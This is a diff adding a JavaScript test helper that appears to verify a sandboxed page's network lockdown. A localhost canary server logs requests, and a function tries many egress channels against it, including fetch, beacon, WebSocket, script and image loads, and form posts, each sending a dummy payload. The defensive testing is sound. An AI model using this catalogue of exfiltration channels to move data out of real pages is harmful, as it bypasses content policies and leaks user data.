@@ -1,0 +1,94 @@
+// A server that must never hear from the sealed page, and the attempts to make
+// it hear.
+
+import { createServer } from 'node:http';
+
+export class Canary {
+  async start() {
+    this.heard = [];
+    this.server = createServer((request, response) => {
+      this.heard.push(request.url);
+      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
+      response.end('<!DOCTYPE html><title>canari</title><link rel="icon" href="data:,">');
+    });
+    this.server.on('upgrade', (request, socket) => {
+      this.heard.push(request.url);
+      socket.destroy();
+    });
+    await new Promise((done) => this.server.listen(0, '127.0.0.1', done));
+    this.address = `http://127.0.0.1:${this.server.address().port}`;
+    return this;
+  }
+
+  async stop() {
+    this.server.closeAllConnections();
+    await new Promise((done) => this.server.close(done));
+  }
+}
+
+// Runs in a page or in a worker: tries every way out that exists there, each
+// under a path of its own, and says what was tried. Stands alone: it is also
+// sent as text.
+export async function tryEveryWayOut(address) {
+  const socket = address.replace('http', 'ws');
+  const ended = (target, ...types) =>
+    new Promise((done) => {
+      for (const type of types) target.addEventListener(type, done);
+      // A way out that says nothing is given a moment.
+      setTimeout(done, 2_000);
+    });
+  const ways = {
+    fetch: () => fetch(`${address}/fetch`, { method: 'POST', body: 'donnée', mode: 'no-cors' }),
+    xhr: async () => {
+      const request = new XMLHttpRequest();
+      request.open('POST', `${address}/xhr`);
+      const end = ended(request, 'loadend');
+      request.send('donnée');
+      await end;
+    },
+    websocket: () => ended(new WebSocket(`${socket}/websocket`), 'open', 'error'),
+    eventsource: async () => {
+      const source = new EventSource(`${address}/eventsource`);
+      await ended(source, 'open', 'error');
+      source.close();
+    },
+  };
+  if (typeof document === 'undefined') {
+    ways.importscripts = () => importScripts(`${address}/importscripts`);
+    ways.worker = () => ended(new Worker(`${address}/worker`), 'error', 'message');
+  } else {
+    const load = (name, attribute) => async () => {
+      const element = document.createElement(name);
+      const end = ended(element, 'load', 'error');
+      element[attribute] = `${address}/${name}`;
+      if (name === 'link') element.rel = 'stylesheet';
+      document.body.append(element);
+      await end;
+      element.remove();
+    };
+    ways.beacon = () => navigator.sendBeacon(`${address}/beacon`, 'donnée');
+    ways.img = load('img', 'src');
+    ways.iframe = load('iframe', 'src');
+    ways.link = load('link', 'href');
+    ways.video = load('video', 'src');
+    ways.script = load('script', 'src');
+    ways.form = async () => {
+      const form = document.createElement('form');
+      form.action = `${address}/form`;
+      form.target = '_blank';
+      document.body.append(form);
+      form.submit();
+      form.remove();
+    };
+  }
+  const tried = [];
+  for (const [name, way] of Object.entries(ways)) {
+    try {
+      await way();
+    } catch {
+      // Refused at once: that is what the policy is for.
+    }
+    tried.push(name);
+  }
+  return tried;
+}
